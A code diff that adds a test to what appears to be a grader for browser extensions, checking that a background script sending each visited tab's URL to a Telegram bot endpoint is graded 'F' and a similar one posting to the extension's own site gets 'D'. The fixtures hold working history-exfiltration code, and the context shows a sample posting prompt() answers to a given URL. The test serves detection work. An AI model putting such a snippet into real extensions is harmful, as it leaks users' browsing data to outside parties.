@@ -57,6 +57,22 @@ describe('a long way in a small program', () => {
   });
 });
 
+describe('a helper that opens a request with the address it is told', () => {
+  const helper = `function ask(link, body) { const x = new XMLHttpRequest(); x.open('POST', link, true); x.send(body); }
+    chrome.tabs.onUpdated.addListener((id, info, tab) => {
+      const form = new FormData();
+      form.append('caption', tab.url);
+      ask(RECEIVER, form);
+    });`;
+
+  it('sends to whom its caller names', async () => {
+    const bot = `const token = '1:a'; ${helper.replace('RECEIVER', "'https://api.telegram.org/bot' + token + '/sendMessage'")}`;
+    expect(await graded({ background: bot })).toBe('F');
+    const own = helper.replace('RECEIVER', "'https://notes.example/seen'");
+    expect(await graded({ background: own, manifest: { homepage_url: 'https://notes.example' } })).toBe('D');
+  });
+});
+
 describe('what is answered to a prompt', () => {
   const ask = (question: string, to: string): string =>
     `const said = prompt('${question}'); fetch('${to}', { method: 'POST', body: JSON.stringify({ said }) });`;
